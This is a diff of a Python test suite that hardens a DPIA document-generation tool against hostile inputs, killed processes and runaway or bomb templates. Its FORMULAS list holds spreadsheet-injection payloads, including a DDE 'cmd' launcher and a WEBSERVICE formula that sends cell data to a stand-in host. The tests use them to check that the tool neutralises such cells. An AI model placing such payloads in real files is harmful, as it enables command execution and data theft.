@@ -1,7 +1,9 @@
 """Hostile inputs and faults, each tried for real: formulas in summaries, bomb templates, odd file
 names, killed processes, output-side errors. Every case ends with a documented exit code, no
-traceback, no hang, and nothing lost. Output-side errors, which need no process of their own, go
-through the command's parser in this process (`invoke_dpia`)."""
+traceback, no hang, and nothing lost. A real process is started where the process is the point:
+signals, killed workers, a lock held by another process, memory limits, file descriptors, and files
+that would sink the process reading them; everything else goes through the command's parser in
+this process (`invoke_dpia`)."""
 
 from __future__ import annotations
 
@@ -9,17 +11,19 @@ import contextlib
 import csv
 import os
 import resource
+import signal
 import subprocess
 import sys
+import threading
 import zipfile
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import docx
 import openpyxl
 import pytest
-from conftest import SAMPLES, RunDpia, invoke_dpia
+from conftest import SAMPLES, invoke_dpia
 
 from dpia.batch.cells import neutralise
 from dpia.printable import printable
@@ -46,6 +50,28 @@ def dpia(*args: str | Path, cwd: Path, timeout: float = 120, **environment: str)
     )
 
 
+class _Stuck(BaseException):
+    """Raised in this process when a command that a render deadline should stop is still running."""
+
+
+@contextlib.contextmanager
+def _fails_instead_of_hanging(seconds: float = 120) -> Iterator[None]:
+    """For a command run in this process on a runaway template: were its render deadline ever broken,
+    the test fails after `seconds` instead of hanging the suite, as a process would by its timeout."""
+
+    def stuck(signum: int, frame: object) -> None:
+        raise _Stuck(f"still running after {seconds:g} s: the render deadline did not stop it")
+
+    previous = signal.signal(signal.SIGUSR1, stuck)
+    timer = threading.Timer(seconds, signal.pthread_kill, (threading.main_thread().ident, signal.SIGUSR1))
+    timer.start()
+    try:
+        yield
+    finally:
+        timer.cancel()
+        signal.signal(signal.SIGUSR1, previous)
+
+
 def template_with(tmp_path: Path, line: str, name: str = "mine.docx") -> Path:
     """The shipped French template with one more paragraph holding `line`."""
     document = docx.Document(str(default_template("fr")))
@@ -70,7 +96,7 @@ def answers_named(service: str, controller: str) -> str:
 FORMULAS = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid/?"&A2)', "\t=1+1", "\r=2+2", "+3", "-4", "@SUM(1)"]
 
 
-def test_summary_cells_holding_formulas_stay_text(run_dpia: RunDpia, tmp_path: Path) -> None:
+def test_summary_cells_holding_formulas_stay_text(tmp_path: Path) -> None:
     inputs = tmp_path / "in"
     inputs.mkdir()
     names = []
@@ -81,7 +107,9 @@ def test_summary_cells_holding_formulas_stay_text(run_dpia: RunDpia, tmp_path: P
     formula_names = ["-x.yaml", "\t=1+1.yaml", "\r=2.yaml", "=3.yaml", "@4.yaml"]
     for name in formula_names:
         (inputs / name).write_text(MINIMAL, encoding="utf-8")
-    result = run_dpia("batch", "-o", "../out", "-j", "1", "--formats", "json", "--", *names, *formula_names, cwd=inputs)
+    result = invoke_dpia(
+        "batch", "-o", "../out", "-j", "1", "--formats", "json", "--", *names, *formula_names, cwd=inputs
+    )
     assert result.returncode == 0, result.stdout + result.stderr
     out = tmp_path / "out"
 
@@ -117,9 +145,18 @@ RUNAWAY = "{% for a in range(100000) %}{% for b in range(100000) %}{% for c in r
 def test_a_runaway_template_is_stopped_at_its_deadline(tmp_path: Path) -> None:
     template = template_with(tmp_path, RUNAWAY)
     out = tmp_path / "out.docx"
-    result = dpia(
-        "build", SAMPLES / "minimal.yaml", "-o", out, "--template", template, cwd=tmp_path, DPIA_RENDER_SECONDS="0.3"
-    )
+    # In this process: the deadline is a timer in whichever process renders, the same here as in a command.
+    with _fails_instead_of_hanging():
+        result = invoke_dpia(
+            "build",
+            SAMPLES / "minimal.yaml",
+            "-o",
+            out,
+            "--template",
+            template,
+            cwd=tmp_path,
+            env={"DPIA_RENDER_SECONDS": "0.3"},
+        )
     assert result.returncode == 2, result.stderr
     assert result.stderr.startswith(f"{template}: "), result.stderr
     assert "rendering one document took longer than 0.3 s" in result.stderr
@@ -171,8 +208,8 @@ def test_a_template_that_asks_for_too_much_memory_is_refused(tmp_path: Path, lin
 
 
 def test_a_bad_limit_setting_is_a_usage_error(tmp_path: Path) -> None:
-    result = dpia(
-        "build", SAMPLES / "minimal.yaml", "-o", tmp_path / "o.docx", cwd=tmp_path, DPIA_RENDER_SECONDS="soon"
+    result = invoke_dpia(
+        "build", SAMPLES / "minimal.yaml", "-o", tmp_path / "o.docx", cwd=tmp_path, env={"DPIA_RENDER_SECONDS": "soon"}
     )
     assert result.returncode == 2 and result.stderr == "DPIA_RENDER_SECONDS: 'soon' is not a positive number\n"
 
@@ -240,7 +277,8 @@ BROKEN_TEMPLATES = {
 def test_a_broken_or_bomb_template_package_is_refused(tmp_path: Path, case: str) -> None:
     template = BROKEN_TEMPLATES[case](tmp_path)
     out = tmp_path / "out.docx"
-    result = dpia("build", SAMPLES / "minimal.yaml", "-o", out, "--template", template, cwd=tmp_path)
+    # In this process: the package is checked before it is unpacked, so even the bomb costs a few MiB at most.
+    result = invoke_dpia("build", SAMPLES / "minimal.yaml", "-o", out, "--template", template, cwd=tmp_path)
     assert result.returncode == 2, result.stderr
     assert result.stderr.startswith(f"{template}: not a usable Word template: "), result.stderr
     assert len(result.stderr.splitlines()) == 1 and not out.exists()
@@ -281,7 +319,11 @@ def test_odd_file_names_neither_break_a_batch_nor_its_reruns(tmp_path: Path) -> 
     for name in (latin1, control, longest):
         (inputs / name).write_text(MINIMAL, encoding="utf-8")
     for run in ("first", "rerun"):
-        result = dpia("batch", inputs, "-o", tmp_path / "out", "-j", "2", "--formats", "docx,cnil-pia", cwd=tmp_path)
+        # In this process: its streams encode as a command's do (stdout strictly in UTF-8, stderr with
+        # escapes), so a name that would break printing breaks here too.
+        result = invoke_dpia(
+            "batch", inputs, "-o", tmp_path / "out", "-j", "1", "--formats", "docx,cnil-pia", cwd=tmp_path
+        )
         assert result.returncode == 0, f"{run}: {result.stdout}{result.stderr}"
         assert "Traceback" not in result.stdout + result.stderr and "\x1b" not in result.stdout + result.stderr
     out = tmp_path / "out"
@@ -316,9 +358,6 @@ STUCK = '{% if processing.name == "stuck" %}' + RUNAWAY + "{% endif %}"
 
 
 def test_a_killed_worker_fails_its_item_and_the_batch_ends(tmp_path: Path) -> None:
-    import signal
-    import threading
-
     inputs = tmp_path / "in"
     inputs.mkdir()
     (inputs / "a.yaml").write_text(answers_named("stuck", "x"), encoding="utf-8")
@@ -461,9 +500,6 @@ def test_score_prints_names_as_text_not_markup(tmp_path: Path) -> None:
 def test_a_killed_batch_keeps_its_records_locks_its_folder_and_a_plain_rerun_finishes(
     tmp_path: Path, stop: str
 ) -> None:
-    import signal
-    import threading
-
     inputs = tmp_path / "in"
     inputs.mkdir()
     (inputs / "a.yaml").write_text(answers_named("stuck", "x"), encoding="utf-8")
@@ -471,9 +507,11 @@ def test_a_killed_batch_keeps_its_records_locks_its_folder_and_a_plain_rerun_fin
         (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
     template = template_with(tmp_path, STUCK)
     out = tmp_path / "out"
-    command: list[str | Path] = ["batch", inputs, "-o", out, "-j", "2", "--template", template]
+    command: list[str | Path] = ["batch", inputs, "-o", out, "--template", template]
+    # The run that is killed is a real process with workers; the runs that meet its lock, or what it
+    # left, go through the command's parser in this process (one at a time, `-j 1`).
     process = subprocess.Popen(
-        [sys.executable, "-m", "dpia", *map(str, command)],
+        [sys.executable, "-m", "dpia", *map(str, command), "-j", "2"],
         cwd=tmp_path,
         stdout=subprocess.PIPE,
         stderr=subprocess.PIPE,
@@ -483,6 +521,12 @@ def test_a_killed_batch_keeps_its_records_locks_its_folder_and_a_plain_rerun_fin
     )
     watchdog = threading.Timer(150, process.kill)
     watchdog.start()
+
+    def plain_rerun() -> subprocess.CompletedProcess[str]:
+        with _fails_instead_of_hanging():
+            return invoke_dpia(*command, "-j", "1", cwd=tmp_path, env={"DPIA_RENDER_SECONDS": "0.3"})
+
+    workers: list[int] = []
     try:
         assert process.stderr is not None
         written = 0
@@ -491,8 +535,9 @@ def test_a_killed_batch_keeps_its_records_locks_its_folder_and_a_plain_rerun_fin
             assert line, "the batch ended early"
             written += line.rstrip().endswith(": written")
         # A second run on the same folder is refused at once, and touches nothing.
-        second = dpia(*command, cwd=tmp_path, timeout=60)
-        assert second.returncode == 2 and "another dpia batch (process " in second.stderr, second.stderr
+        second = invoke_dpia(*command, "-j", "1", cwd=tmp_path)
+        assert second.returncode == 2, second.stderr
+        assert f"another dpia batch (process {process.pid}) is writing" in second.stderr, second.stderr
         workers = _children(process.pid)
         os.kill(process.pid, getattr(signal, stop))
         process.wait()
@@ -500,18 +545,19 @@ def test_a_killed_batch_keeps_its_records_locks_its_folder_and_a_plain_rerun_fin
             # The stuck worker outlives its parent until its deadline: the folder's lock does not.
             alive = [worker for worker in workers if Path(f"/proc/{worker}").exists()]
             assert alive, "a worker is still rendering"
-            relocked = dpia(*command, cwd=tmp_path, DPIA_RENDER_SECONDS="0.3")
-            assert "another dpia batch" not in relocked.stderr, relocked.stderr
-        for worker in workers:
+            rerun = plain_rerun()
+            assert "another dpia batch" not in rerun.stderr, rerun.stderr
+    finally:  # the stuck worker burns a core until it is killed: at once, whatever happened
+        watchdog.cancel()
+        for worker in workers or _children(process.pid):
             with contextlib.suppress(ProcessLookupError):
                 os.kill(worker, signal.SIGKILL)
+        process.kill()
         process.communicate()
-    finally:
-        watchdog.cancel()
     if stop == "SIGTERM":
         assert process.returncode == 130, "stopped as Ctrl-C stops it"
         assert (out / ".dpia-batch.json").is_file()
-    rerun = dpia(*command, cwd=tmp_path, DPIA_RENDER_SECONDS="0.3")
+        rerun = plain_rerun()
     assert rerun.returncode == 1, rerun.stdout + rerun.stderr  # only the stuck file fails, at its deadline
     assert rerun.stderr.count(": unchanged\n") == 3, rerun.stderr
     assert "took longer than 0.3 s" in rerun.stdout
@@ -536,7 +582,7 @@ def test_numbers_python_cannot_build_are_located_errors(tmp_path: Path, value: s
     answers = tmp_path / "answers.yaml"
     answers.write_text(MINIMAL.replace("  count: 150000", f"  count: {value}"), encoding="utf-8")
     line = MINIMAL.splitlines().index("  count: 150000") + 1
-    result = dpia("validate", answers, cwd=tmp_path)
+    result = invoke_dpia("validate", answers, cwd=tmp_path)
     assert result.returncode == 2, result.stderr
     assert result.stderr.startswith(f"{answers}:{line}:10: {message}"), result.stderr
     assert "Traceback" not in result.stderr
@@ -550,10 +596,10 @@ def test_a_manifest_whose_items_are_a_list_and_a_huge_jobs_count_are_no_tracebac
     inputs.mkdir()
     for name in ("a", "b"):
         (inputs / f"{name}.yaml").write_text(MINIMAL, encoding="utf-8")
-    command: list[str | Path] = ["batch", inputs, "-o", tmp_path / "out", "--formats", "json", "-j", "100000"]
-    assert dpia(*command, cwd=tmp_path).returncode == 0
+    command: list[str | Path] = ["batch", inputs, "-o", tmp_path / "out", "--formats", "json"]
+    assert invoke_dpia(*command, "-j", "1", cwd=tmp_path).returncode == 0  # the folder a run leaves
     (tmp_path / "out" / ".dpia-batch.json").write_text('{"version": 1, "items": []}', encoding="utf-8")
-    result = dpia(*command, cwd=tmp_path)
+    result = dpia(*command, "-j", "100000", cwd=tmp_path)  # a process: how many workers it starts is the point
     assert "Traceback" not in result.stdout + result.stderr
     assert result.returncode in (0, 1), result.stderr
 
@@ -675,7 +721,7 @@ def test_a_batch_takes_only_the_answer_files_of_its_input_tree(tmp_path: Path) -
     nested = out / "answers"
     nested.mkdir(parents=True)
     (nested / "a.yaml").write_text(MINIMAL, encoding="utf-8")
-    result = dpia("batch", nested, "-o", out, cwd=tmp_path)
+    result = invoke_dpia("batch", nested, "-o", out, cwd=tmp_path)
     assert result.returncode == 2 and "Traceback" not in result.stderr
     assert f"{nested}: is inside the output folder {out}" in result.stderr, result.stderr
 
